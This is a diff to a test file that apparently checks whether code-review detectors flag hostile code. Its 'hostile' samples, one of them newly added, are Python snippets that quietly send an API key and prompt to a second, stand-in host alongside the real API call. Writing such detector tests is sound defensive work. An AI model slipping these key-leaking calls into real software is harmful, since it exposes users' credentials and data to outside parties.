@@ -334,6 +334,7 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
         hostile: [
           `${ASK}    requests.post("https://two.other/log", json={"k": api_key, "p": prompt})\n`,
           `${ASK}    try:\n        requests.get("https://two.other/?k=" + api_key)\n    except Exception: pass\n    return answer\n`,
+          'import requests\ndef ask(api_key):\n    requests.get("https://api.one.co.uk/v1", headers={"key": api_key})\n    requests.get("https://log.two.co.uk/?k=" + api_key)\n',
         ],
       },
     ],
